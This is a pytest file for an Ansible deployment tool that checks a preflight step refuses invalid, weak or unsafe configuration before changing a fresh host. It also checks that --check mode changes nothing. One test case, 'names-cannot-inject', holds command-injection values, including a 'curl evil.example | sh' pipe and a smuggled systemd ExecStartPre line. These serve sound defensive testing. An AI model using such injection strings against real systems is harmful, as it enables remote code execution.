"""Safe by default, on a fresh host: bad input is refused before anything
changes, and --check runs to the end and tells what it would do.

In file order: every bad input (the host must stay exactly as created), then
--check for each proxy (still unchanged). Then test_quickstart.py deploys the
host as the README's quick start says, and checks it converged.
"""

import json
import subprocess
import time

import pytest

from conftest import output, recap, run_playbook

SECRET_LINE = "og_preflight-leak-check-7f3a"


@pytest.fixture(scope="session")
def tls_pairs(tmp_path_factory):
    """Throwaway certificates and keys made on the controller with openssl."""
    directory = tmp_path_factory.mktemp("byo")

    def make(name, domain):
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=" + domain,
             "-addext", "subjectAltName=DNS:" + domain, "-keyout", str(directory / (name + ".key")),
             "-out", str(directory / (name + ".pem"))], check=True, capture_output=True)
        return (directory / (name + ".pem")).read_text(), (directory / (name + ".key")).read_text()

    return {"site": make("site", "opengram.test"), "other": make("other", "other.example")}


def byo(certificate, key):
    return {"opengram_proxy": "nginx", "opengram_tls_mode": "byo",
            "opengram_tls_certificate": certificate, "opengram_tls_certificate_key": key}


# Debian 13 as roles/opengram/vars/platforms.yml lists it (the platform cases change one field).
TRIXIE = {"distribution": "Debian", "version": "13", "codename": "trixie", "nodejs": "distro",
          "caddy": ["distribution", "upstream"], "proven": "here"}

# (id, extra vars or a function of the throwaway TLS pairs, substrings the message must hold:
#  the variable with its bad value, what is wrong, and the fix)
BAD_INPUTS = [
    ("domain-invalid", {"opengram_domain": "bad_domain!"},
     ["opengram_domain='bad_domain!'", "is not a valid DNS name", "e.g. opengram_domain: chat.example.com"]),
    ("domain-empty", {"opengram_domain": ""},
     ["opengram_domain=''", "is not a valid DNS name", "e.g. opengram_domain: chat.example.com"]),
    ("alias-not-a-list", {"opengram_domain_aliases": "www.opengram.test"},
     ["opengram_domain_aliases='www.opengram.test' is not a list", "e.g. opengram_domain_aliases: ["]),
    ("alias-invalid", {"opengram_domain_aliases": ["www.opengram.test", "bad_alias!"]},
     ["opengram_domain_aliases=['www.opengram.test', 'bad_alias!']: 'bad_alias!' is not a valid DNS name",
      "e.g. opengram_domain_aliases: [www.opengram.test]"]),
    ("alias-is-the-domain", {"opengram_domain_aliases": ["Opengram.test"]},
     ["opengram_domain_aliases=['Opengram.test'] lists opengram_domain='opengram.test' itself",
      "Remove it from opengram_domain_aliases"]),
    ("alias-twice", {"opengram_domain_aliases": ["www.opengram.test", "WWW.opengram.test"]},
     ["lists 'www.opengram.test' more than once", "List each name once"]),
    ("proxy-input-the-play-sets", {"nginx_upstream_port": 8080},
     ["nginx_upstream_port=8080 is set by the playbook (playbooks/opengram.yml: nginx_upstream_port:",
      "this value would be ignored", "Remove it and set opengram_port instead"]),
    ("proxy-unsupported", {"opengram_proxy": "apache"},
     ["opengram_proxy='apache'", "is not supported", "Use caddy, nginx or none"]),
    ("tls-internal-with-nginx", {"opengram_proxy": "nginx", "opengram_tls_mode": "internal"},
     ["opengram_tls_mode='internal'", "not with opengram_proxy='nginx'", "set opengram_tls_mode: acme"]),
    ("tls-byo-with-caddy", {"opengram_proxy": "caddy", "opengram_tls_mode": "byo"},
     ["opengram_tls_mode='byo'", "not with opengram_proxy='caddy'", "set opengram_tls_mode: acme"]),
    ("acme-email-missing", {"opengram_acme_email": ""},
     ["opengram_acme_email=''", "is not an email address", "Set opengram_acme_email: an address you read"]),
    ("acme-email-invalid", {"opengram_acme_email": "admin-at-example"},
     ["opengram_acme_email='admin-at-example'", "is not an email address", "Set opengram_acme_email:"]),
    # The example inventory's own placeholder, with Let's Encrypt (which refuses it).
    ("acme-email-reserved-with-letsencrypt",
     {"opengram_acme_email": "ops@example.com",
      "opengram_acme_directory": "https://acme-v02.api.letsencrypt.org/directory"},
     ["opengram_acme_email='ops@example.com'", "reserved for examples and tests", "Let's Encrypt",
      "e.g. opengram_acme_email: you@"]),
    ("port-not-a-number", {"opengram_port": "abc"},
     ["opengram_port='abc'", "is not a TCP port", "Use a number from 1 to 65535"]),
    ("port-zero", {"opengram_port": 0},
     ["opengram_port='0'", "is not a TCP port", "Use a number from 1 to 65535"]),
    ("port-too-high", {"opengram_port": 70000},
     ["opengram_port='70000'", "is not a TCP port", "Use a number from 1 to 65535"]),
    ("port-collides-with-proxy", {"opengram_port": 443},
     ["opengram_port='443'", "collides with the proxy", "Use another port, e.g. opengram_port: 3000"]),
    ("upload-zero", {"opengram_upload_max_bytes": 0},
     ["opengram_upload_max_bytes='0'", "must be a positive whole number of bytes", "opengram_upload_max_bytes: 50000000"]),
    ("upload-negative", {"opengram_upload_max_bytes": -5},
     ["opengram_upload_max_bytes='-5'", "must be a positive whole number of bytes", "opengram_upload_max_bytes: 50000000"]),
    ("upload-with-unit", {"opengram_upload_max_bytes": "50MB"},
     ["opengram_upload_max_bytes='50MB'", "(no unit)", "opengram_upload_max_bytes: 50000000"]),
    ("public-url-not-https", {"opengram_public_base_url": "http://opengram.test"},
     ["opengram_public_base_url='http://opengram.test'", "must be https://", "use https://"]),
    ("version-latest", {"opengram_version": "latest"},
     ["opengram_version='latest'", "is not an exact version", 'Pin one, e.g. opengram_version: "0.2.1"']),
    ("tarball-missing", {"opengram_npm_tarball": "/nonexistent/opengram-0.2.1.tgz"},
     ["opengram_npm_tarball='/nonexistent/opengram-0.2.1.tgz'", "does not exist on the controller",
      "Give the path of an `npm pack` tarball"]),
    # Issue 26: a version without a dependency lock (and the scenario's
    # tarball, which is 0.2.1) is refused with the command that makes one.
    ("version-without-lock", {"opengram_version": "0.2.9"},
     ["No dependency lock for @opengramsh/opengram 0.2.9", "python3 tools/lock.py 0.2.9",
      "opengram_npm_locked: false", "holds @opengramsh/opengram 0.2.1, not opengram_npm_package"]),
    ("npm-ca-file-missing", {"opengram_npm_ca_file": "/nonexistent/corp-ca.pem"},
     ["opengram_npm_ca_file='/nonexistent/corp-ca.pem'", "does not exist on the controller",
      "Give the path of a PEM CA bundle"]),
    ("byo-without-certificate", {"opengram_proxy": "nginx", "opengram_tls_mode": "byo"},
     ["opengram_tls_mode='byo' needs a certificate and its key", "opengram_tls_certificate=''",
      "Set opengram_tls_certificate and opengram_tls_certificate_key"]),
    ("byo-key-does-not-match", lambda pairs: byo(pairs["site"][0], pairs["other"][1]),
     ["opengram_tls_certificate (subject CN=opengram.test, public key sha256:", "do not match",
      "Give the key the certificate was issued for"]),
    ("byo-certificate-for-another-domain", lambda pairs: byo(*pairs["other"]),
     ["opengram_tls_certificate (subject CN=other.example, DNS names other.example)",
      "does not cover opengram_domain='opengram.test'", "subjectAltName includes opengram.test"]),
    ("byo-files-missing", {"opengram_proxy": "nginx", "opengram_tls_mode": "byo",
                           "opengram_tls_certificate_path": "/etc/ssl/opengram/missing.crt",
                           "opengram_tls_certificate_key_path": "/etc/ssl/opengram/missing.key"},
     ["opengram_tls_certificate_path='/etc/ssl/opengram/missing.crt' does not exist on",
      "opengram_tls_certificate_key_path='/etc/ssl/opengram/missing.key' does not exist on",
      "Copy the certificate chain there first"]),
    ("rate-limit-zero", {"opengram_write_rate_limit_max": 0},
     ["opengram_write_rate_limit_max='0'", "must be a positive whole number", "opengram_write_rate_limit_max: 100"]),
    ("secret-with-newline", {"opengram_instance_secret": SECRET_LINE + "\nsecond-line"},
     ["opengram_instance_secret contains a line break", "(value not shown: it is a secret)",
      "Use a single-line secret"]),
    ("agents-empty", {"opengram_agents": []},
     ["opengram_agents=[]", "need at least one entry each", "e.g. opengram_agents:"]),
    # ---- access modes (issue 11); the weak password itself is never shown ----
    ("access-password-without-users", {"opengram_access_modes": ["password"], "opengram_access_users": []},
     ["opengram_access_users is empty", "Add at least one user", "openssl rand -base64 24"]),
    ("access-password-too-short", {"opengram_access_users": [{"name": "alice", "password": "Sh0rt-pw!"}]},
     ["opengram_access_users[0].password (user 'alice', value not shown) is weak", "fewer than 16",
      "openssl rand -base64 24"]),
    ("access-password-few-distinct", {"opengram_access_users": [{"name": "alice", "password": "abababababababababab"}]},
     ["is weak", "distinct characters", "openssl rand -base64 24"]),
    ("access-password-contains-name", {"opengram_access_users": [{"name": "alice", "password": "alice-Qx7v9Lm2Rt8Wz"}]},
     ["is weak", "contains the user name"]),
    ("access-hash-not-bcrypt", {"opengram_access_users": [{"name": "bob", "password_hash": "$apr1$abc$0123456789abcdef"}]},
     ["opengram_access_users[0].password_hash (user 'bob') is not a bcrypt hash", "htpasswd -nB bob"]),
    ("access-mode-unknown", {"opengram_access_modes": ["password", "vpn"]},
     ["unknown mode(s) ['vpn']", "Use password and/or networks, or public alone"]),
    ("access-public-combined", {"opengram_access_modes": ["public", "password"]},
     ["public is the explicit opt-out and cannot be combined", "Use [public] alone"]),
    ("access-networks-empty", {"opengram_access_modes": ["networks"], "opengram_access_networks": []},
     ["opengram_access_networks is empty", "e.g. opengram_access_networks: ['192.0.2.0/24']"]),
    ("access-networks-not-cidr", {"opengram_access_modes": ["networks"], "opengram_access_networks": ["office", "10.1.2.3/8"]},
     ["entry 'office' is not a CIDR range", "entry '10.1.2.3/8' is not a CIDR range", "did you mean 10.0.0.0/8?"]),
    ("access-networks-everyone", {"opengram_access_modes": ["networks", "password"],
                                  "opengram_access_networks": ["0.0.0.0/1", "128.0.0.0/1"]},
     ["covers every IPv4 address (0.0.0.0/0)", "use opengram_access_modes: [public]"]),
    ("access-networks-slash-zero", {"opengram_access_modes": ["networks"], "opengram_access_networks": ["::/0"]},
     ["covers every IPv6 address (::/0)"]),
    # ---- issue 14: input that cannot hurt, one run per class, every message checked ----
    ("port-privileged-ssh", {"opengram_port": 22},
     ["opengram_port='22' is a privileged port (below 1024)", "shut you out of SSH",
      "Use a free port from 1024 to 65535, e.g. opengram_port: 3000"]),
    ("extra-env-overrides-owned", {"opengram_env_extra": {"OPENGRAM_TRUST_PROXY_HEADERS": "false",
                                                          "OPENGRAM_INSTANCE_SECRET": SECRET_LINE,
                                                          "OPENAI API KEY": "x"}},
     ["opengram_env_extra sets OPENGRAM_TRUST_PROXY_HEADERS, which the playbook owns",
      "opengram_env_extra sets OPENGRAM_INSTANCE_SECRET, which the playbook owns",
      "set opengram_instance_secret instead", "key 'OPENAI API KEY' is not an environment variable name"]),
    ("extra-config-overrides-owned", {"opengram_config_extra": {"security": {"readEndpointsRequireInstanceSecret": False},
                                                                "server": {"port": 4000}, "branding": {"title": "ok"}}},
     ["opengram_config_extra sets security.readEndpointsRequireInstanceSecret, which the playbook owns",
      "opengram_config_extra sets server.port, which the playbook owns", "set opengram_port instead"]),
    ("trust-every-address", {"opengram_trusted_proxies": ["0.0.0.0/0", "cdn"]},
     ["opengram_trusted_proxies=['0.0.0.0/0'] covers every IPv4 address", "every client could name its own address",
      "opengram_trusted_proxies entry 'cdn' is not a CIDR range"]),
    ("names-cannot-inject", {"opengram_user": "og; touch /tmp/pwned", "opengram_service_name": "opengram\nExecStartPre=/bin/sh",
                             "opengram_acme_email": "admin@example.com\n  acme_ca https://evil.example",
                             "opengram_trusted_proxy_header": "X-Real-IP\r\nX-Evil: 1",
                             "opengram_public_base_url": "https://opengram.test\"; evil",
                             "opengram_npm_package": "@opengramsh/opengram; curl evil.example | sh",
                             "opengram_agents": [{"id": "a'b", "name": "A", "model": "default"}],
                             "nginx_proxy_read_timeout": "1h; return 200"},
     ["opengram_user='og; touch /tmp/pwned' is not a system user name", "is not a systemd unit name",
      "is not an email address", "is not an HTTP header name", "is not a plain URL", "is not an npm package name",
      "opengram_agents[0].id=\"a'b\" is not a usable id", "nginx_proxy_read_timeout='1h; return 200' is not an nginx time"]),
    ("paths-system-overlapping-unsafe", {"opengram_home": "/", "opengram_install_dir": "/srv/open gram",
                                         "opengram_backup_dir": "/etc/opengram/backups"},
     ["opengram_home='/' is a system directory", "opengram_install_dir='/srv/open gram' is not a plain absolute path",
      "opengram_backup_dir='/etc/opengram/backups' and opengram_config_dir='/etc/opengram' overlap"]),
    ("types-and-ranges", {"opengram_firewall": "maybe", "opengram_backup_keep": -1, "opengram_health_timeout": "soon",
                          "nginx_ssl_protocols": "TLSv1 TLSv1.2", "opengram_build_packages": ["g++", "make;id"]},
     ["opengram_firewall='maybe' is not a boolean", "opengram_backup_keep=-1 is out of range: use 0 to 10000 archives",
      "opengram_health_timeout='soon' is not a whole number", "nginx_ssl_protocols='TLSv1 TLSv1.2' is not TLSv1.2",
      "['make;id'] are not Debian package names"]),
    ("misspelled-variable", {"opengram_prot": 3001},
     ["opengram_prot is not a variable of opengram-deploy (did you mean opengram_port?)"]),
    ("secret-too-weak", {"opengram_instance_secret": "og_short"},
     ["opengram_instance_secret (value not shown: it is a secret) is too weak", "at least 16 characters"]),
    # Platforms (issue 27). The host is Debian 13; the platform list
    # (roles/opengram/vars/platforms.yml) is narrowed with -e to what another
    # release would meet: a release the list lacks, one whose own Node.js is
    # too old, one without a Caddy package.
    ("platform-not-supported", {"__opengram_platforms": [TRIXIE | {"codename": "bookworm", "version": "12"}]},
     ["runs Debian 13", "(trixie), which opengram-deploy does not support", "Supported: Debian 12 bookworm",
      "Install one of these on the host"]),
    ("nodejs-source-the-release-lacks", {"__opengram_platforms": [TRIXIE | {"nodejs": "nodesource"}],
                                         "opengram_nodejs_source": "distro"},
     ["opengram_nodejs_source='distro', but Debian 13's own Node.js is older than 20",
      "Set opengram_nodejs_source: auto"]),
    ("caddy-source-the-release-lacks", {"__opengram_platforms": [TRIXIE | {"caddy": ["upstream"]}],
                                        "opengram_proxy": "caddy"},
     ["opengram_caddy_source='distribution', but Debian 13 has no Caddy package of its own",
      "Set opengram_caddy_source: upstream"]),
    ("caddy-source-unknown", {"opengram_caddy_source": "cloudsmith"},
     ["opengram_caddy_source='cloudsmith' is not supported", "Use distribution"]),
]


def changed_tasks(text):
    """Names of the tasks that reported a change, in order."""
    names, task = [], None
    for line in text.splitlines():
        if line.startswith("TASK ["):
            task = line[len("TASK ["):line.rindex("]")]
        elif line.startswith("changed:") and task and task not in names:
            names.append(task)
    return names


def flat(text):
    return " ".join(text.split())


def refused_without_change(run, host_snapshot, before, hostname):
    text = output(run)
    assert run.returncode != 0, "bad input was accepted:\n" + text[-3000:]
    counters = recap(run.stdout, hostname)
    assert counters["failed"] == 1 and counters["changed"] == 0, text[-3000:]
    # Refused by the preflight play, before the deploy play started.
    assert "TASK [opengram_deploy.opengram.opengram_preflight : Refuse bad input]" in run.stdout
    assert "Deploy Opengram behind its reverse proxy" not in run.stdout
    assert host_snapshot.changed_paths() == [], "the host changed"
    assert host_snapshot.state() == before, "packages, accounts or units changed"
    return flat(text)


@pytest.mark.parametrize("extra, expected", [pytest.param(e, x, id=i) for i, e, x in BAD_INPUTS])
def test_bad_input_is_refused_before_the_host_changes(extra, expected, tls_pairs, snapshot, hostname):
    extra_vars = extra(tls_pairs) if callable(extra) else extra
    before = snapshot.mark()
    started = time.monotonic()
    run = run_playbook("-e", json.dumps(extra_vars))
    text = refused_without_change(run, snapshot, before, hostname)
    missing = [s for s in expected if s not in text]
    assert not missing, "message lacks %s:\n%s" % (missing, output(run)[-3000:])
    message = next((l.strip() for l in run.stdout.splitlines() if l.strip().startswith("- ")), "")
    print("refused in %.1f s: %s" % (time.monotonic() - started, message))
    # Secrets are named, never shown.
    assert SECRET_LINE not in text
    assert "PRIVATE KEY" not in text


def test_every_problem_is_reported_at_once(snapshot, hostname):
    before = snapshot.mark()
    run = run_playbook("-e", json.dumps({"opengram_domain": "bad_domain!", "opengram_port": "abc",
                                         "opengram_upload_max_bytes": "50MB", "opengram_version": "latest"}))
    text = refused_without_change(run, snapshot, before, hostname)
    for name in ("opengram_domain='bad_domain!'", "opengram_port='abc'", "opengram_upload_max_bytes='50MB'",
                 "opengram_version='latest'"):
        assert name in text


def test_names_that_belong_to_others_on_the_host_are_refused(snapshot, hostname):
    """One run, each class named: a unit another package owns (journald's), a
    system account, a backup schedule systemd rejects (asked of the host's own
    systemd-analyze), IPv4-mapped IPv6 covering every IPv4 client, a batch
    size Ansible cannot use, a self-check host the inventory does not have."""
    before = snapshot.mark()
    run = run_playbook("-e", json.dumps({"opengram_service_name": "systemd-journald", "opengram_user": "www-data",
                                         "opengram_backup_schedule": "every day",
                                         "opengram_trusted_proxies": ["::ffff:0:0/96"], "opengram_serial": 0,
                                         "opengram_selfcheck_from": "probe-host"}))
    text = refused_without_change(run, snapshot, before, hostname)
    for expected in ("opengram_service_name='systemd-journald' is already a unit on this host "
                     "(/usr/lib/systemd/system/systemd-journald.service) that opengram-deploy did not write",
                     "opengram_user='www-data' is a user of the system or of another service",
                     "opengram_backup_schedule='every day' is not a systemd calendar time",
                     "opengram_trusted_proxies=['::ffff:0:0/96'] covers every IPv4 address",
                     "opengram_serial=0 is not a batch size",
                     "opengram_selfcheck_from='probe-host' is not a host of this inventory"):
        assert expected in " ".join(text.split()), "message lacks %r:\n%s" % (expected, output(run)[-3000:])


def test_a_port_another_service_listens_on_is_refused(host, snapshot, hostname):
    """A port some other service on the host already uses (here a listener of
    root's on 127.0.0.1:8025) is refused with its address; the service keeps it."""
    host.check_output("setsid python3 -m http.server 8025 --bind 127.0.0.1 >/dev/null 2>&1 < /dev/null &")
    try:
        deadline = time.monotonic() + 30
        while ":8025 " not in host.check_output("ss -Htln") and time.monotonic() < deadline:
            time.sleep(0.2)
        assert ":8025 " in host.check_output("ss -Htln"), "the stand-in service did not start listening"
        before = snapshot.mark()
        run = run_playbook("-e", json.dumps({"opengram_port": 8025}))
        text = refused_without_change(run, snapshot, before, hostname)
        assert "opengram_port='8025' is already in use on this host by another service (127.0.0.1:8025)" in text, \
            output(run)[-3000:]
        assert "e.g. opengram_port: 3000" in text
    finally:
        host.run("pkill -f 'http.server 8025'")


def test_distinct_bad_inputs_cover_the_list():
    assert len({i for i, _, _ in BAD_INPUTS}) >= 15


@pytest.mark.parametrize("proxy", ["none", "caddy", "nginx"])
def test_check_mode_on_the_fresh_host_tells_what_it_would_do_and_changes_nothing(proxy, snapshot, hostname):
    before = snapshot.mark()
    started = time.monotonic()
    run = run_playbook("--check", "--diff", "-e", json.dumps({"opengram_proxy": proxy}))
    seconds = time.monotonic() - started
    assert run.returncode == 0, output(run)[-4000:]
    counters = recap(run.stdout, hostname)
    assert counters["failed"] == 0 and counters["changed"] > 0, counters
    print("--check with opengram_proxy=%s: %.1f s, %s; would change:\n  %s"
          % (proxy, seconds, counters, "\n  ".join(changed_tasks(run.stdout))))
    # What it would install, from apt's own simulation.
    assert "Show what apt would install" in run.stdout
    assert snapshot.changed_paths() == [], "check mode changed the host"
    assert snapshot.state() == before
